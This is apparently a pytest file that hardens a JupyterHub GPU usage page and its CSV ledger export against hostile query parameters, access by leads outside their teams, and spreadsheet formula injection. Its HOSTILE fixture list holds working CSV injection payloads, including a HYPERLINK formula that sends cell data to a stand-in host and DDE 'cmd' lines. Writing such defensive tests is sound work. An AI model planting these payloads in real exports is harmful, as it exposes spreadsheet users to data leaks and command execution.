"""The usage page against hostile input (issue #25, its low findings): every query
parameter is parsed strictly and bounded, a lead gets 403 for a user outside their
teams, CSV cells cannot start a spreadsheet formula, and the Prometheus URL's secrets
appear neither on the page nor in the log."""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import parse_qs

import pytest

from jupyterhub_gpu.usage.access import BadQuery, NotVisible, Query, Selection, Viewer, visible
from jupyterhub_gpu.usage.config import DEFAULT_DAYS, MAX_DAYS
from jupyterhub_gpu.usage.ledger import NAME_CHARS, Kind
from jupyterhub_gpu.usage.page import FORMULA_START, figures, report, to_csv
from jupyterhub_gpu.usage.telemetry import Telemetry

from .test_usage_page import ROWS, WINDOW, row, spec  # noqa: F401 - spec is a fixture


def arguments(query: str) -> dict[str, list[bytes]]:
    """A query string as tornado hands it to a handler (``request.query_arguments``)."""
    return {k: [v.encode("latin-1") for v in vs]
            for k, vs in parse_qs(query, keep_blank_values=True, encoding="latin-1").items()}


def parse(query: str) -> Query:
    return Query.parse(arguments(query), DEFAULT_DAYS, MAX_DAYS)


def test_a_plain_query_is_read():
    assert parse("") == Query(DEFAULT_DAYS, Selection())
    assert parse("days=7&team=a&user=ann") == Query(7, Selection("a", "ann"))
    assert parse("days=366&team=&user=") == Query(366, Selection())  # empty: not given
    assert parse("days=") == Query(DEFAULT_DAYS, Selection())
    assert parse(f"user={'x' * NAME_CHARS}").selection.user == "x" * NAME_CHARS


@pytest.mark.parametrize("query, match", [
    ("days=%C2%B2", "days must be a whole number from 1 to 366, got '²'"),  # str.isdigit: yes
    ("days=%D9%A3", "days must be a whole number"),  # ARABIC-INDIC DIGIT THREE
    ("days=%EF%BC%97", "days must be a whole number"),  # FULLWIDTH DIGIT SEVEN
    ("days=0", "from 1 to 366, got '0'"),
    ("days=367", "from 1 to 366"),
    ("days=-1", "days must be a whole number"),
    ("days=+7", "days must be a whole number"),
    ("days=%207", "days must be a whole number"),
    ("days=7.0", "days must be a whole number"),
    ("days=" + "9" * 5000, "days must be a whole number"),
    ("days=1&days=2", "days must be a whole number from 1 to 366 (give days once, not 2 "),
    ("team=a&team=b", "give team once"),
    ("user=" + "x" * (NAME_CHARS + 1), f"user is longer than {NAME_CHARS} characters"),
    ("team=" + "x" * 100_000, f"team is longer than {NAME_CHARS} characters"),
    ("user=a%00b", "user has a control character"),
    ("team=a%0Ab", "team has a control character"),
    ("user=%FF", "user is not UTF-8"),
    ("format=json", "unknown query parameter 'format'; the page takes days, team, user"),
    ("x" * 300 + "=1", "unknown query parameter 'xxxxxxxx"),
])
def test_a_bad_query_is_refused_with_the_reason(query, match):
    with pytest.raises(BadQuery, match=re.escape(match)) as e:
        parse(query)
    assert len(str(e.value)) < 400  # the message quotes a bounded part of the input


def test_a_lead_asking_for_a_user_outside_their_team_is_refused(spec):  # noqa: F811
    lead = Viewer.of({"name": "lee", "groups": ["a-leads"]}, spec)
    assert [u.key for u in visible(ROWS, lead, Selection(user="ann"))] == ["1"]
    for selection in (Selection(user="bob"), Selection(team="a", user="bob"),
                      Selection(user="nobody")):
        with pytest.raises(NotVisible, match=f"You may not see user '{selection.user}'"):
            visible(ROWS, lead, selection)
    assert visible(ROWS, lead, Selection(user="lee")) == []  # their own: nothing to hide
    admin = Viewer("root", admin=True)
    assert visible(ROWS, admin, Selection(user="nobody")) == []


HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_cells_never_start_a_formula_and_numbers_are_kept(spec):  # noqa: F811
    rows = [row(str(i), team=name, user=name, profile=name, server=name, kind=Kind.JOB)
            for i, name in enumerate(HOSTILE)]
    r = report(rows, Viewer("root", admin=True), Selection(), WINDOW, 3, spec,
               Telemetry({}, "no Prometheus is configured"))
    table = list(csv.reader(io.StringIO(to_csv(r), newline="")))
    assert len(table) == 1 + len(list(figures(r)))
    names = {cell for line in table[1:] for cell in line[:3]}
    assert {f"'{name}" for name in HOSTILE} <= names  # each, kept whole behind a quote
    assert not [cell for cell in names if cell.startswith(FORMULA_START)]
    assert [line[3] for line in table[1:]] == [value for *_, value in figures(r)]
    assert ["team", f"'{HOSTILE[0]}", "gpu_hours", "1.00"] in table


def test_the_ledger_export_never_starts_a_formula(tmp_path, capsys):
    from jupyterhub_gpu.cli import main
    from jupyterhub_gpu.usage.ledger import Ledger

    url = f"sqlite:///{tmp_path}/usage.sqlite"
    ledger = Ledger(url)
    try:
        for i, name in enumerate(HOSTILE):
            ledger.record_sync(row(f"job:{i}", user=name, server=name, team="a", units=2,
                                   price=0.5, kind=Kind.JOB))
    finally:
        ledger.dispose()
    assert main(["usage", "export", "--db-url", url]) == 0
    header, *lines = csv.DictReader(io.StringIO(capsys.readouterr().out, newline=""))
    table = [header, *lines]
    assert len(table) == len(HOSTILE)
    assert sorted(r["user"] for r in table) == sorted(f"'{n}" for n in HOSTILE)
    assert sorted(r["server"] for r in table) == sorted(f"'{n}" for n in HOSTILE)
    assert {(r["team"], r["gpu_units"], r["price_per_unit_hour"]) for r in table} == {
        ("a", "2", "0.5")}
    assert not [v for r in table for v in r.values() if v.startswith(FORMULA_START)]
